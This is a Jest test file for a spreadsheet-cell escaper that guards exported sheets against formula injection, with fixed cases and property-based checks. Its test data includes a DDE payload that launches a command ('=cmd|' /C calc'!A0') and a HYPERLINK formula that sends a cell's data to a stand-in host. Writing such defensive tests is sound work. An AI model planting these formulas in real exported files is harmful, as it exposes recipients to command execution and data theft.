import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { readCell, safeCell } from './sheet-cell.js';

describe('A cell of a sheet that we give out', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x.example?d="&A1;"ver")', '\'=HYPERLINK("http://x.example?d="&A1;"ver")'],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+1+1', "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['-A1', "'-A1"],
    ['  =1+1', "  '=1+1"],
    ['"=1+1', '"\'=1+1'],
    ['\t=1+1', "\t'=1+1"],
    ['\r=1+1', "\r'=1+1"],
    ['＝1+1', "'＝1+1"],
    // Cut at another separator than ours.
    ['Centro;=1+1', "Centro;'=1+1"],
    ['Centro;"=1+1', 'Centro;"\'=1+1'],
    ['Centro\n=1+1', "Centro\n'=1+1"],
    ['a,b;-cmd|x', "a,b;'-cmd|x"],
    // Would be read as a mark.
    ["'=1+1", "''=1+1"],
    ["'+56 9 1234 5678", "''+56 9 1234 5678"],
  ])('that is a formula, %j, is %j', (text, cell) => {
    expect([safeCell(text), readCell(cell)]).toEqual([cell, text]);
  });

  it.each([
    '',
    'Salud mental',
    "D'Artagnan",
    '-33.52',
    '+56 9 1234 5678',
    '+56 (2) 2345-6789',
    '-1FR',
    'Horario:\n- lunes a viernes\n- sábado',
    'a=b',
    'https://x.example/?a=1',
    'Niña de 6–17 años, vive con su abuela',
  ])('that is none, %j, stays as it is', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  const typed = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ' ', ',', ';', '\t', '\r', '\n', '(', '|', 'a', '1', '＝'),
  });

  it('reads as what was written, whatever it was', () => {
    fc.assert(
      fc.property(fc.oneof(typed, fc.string({ unit: 'grapheme' })), (text) => readCell(safeCell(text)) === text),
    );
  });

  it('calls nothing, wherever a spreadsheet may cut it', () => {
    const begins = (piece: string): string => piece.replace(/^[ "]+/, '');
    fc.assert(
      fc.property(typed, (text) =>
        safeCell(text)
          .split(/[,;\t\r\n]/)
          .map(begins)
          .every(
            (piece) => !/^[=@＝]/.test(piece) && !(/^[+-]/.test(piece) && /[(|!]/.test(piece) && /[a-z]/.test(piece)),
          ),
      ),
    );
  });
});
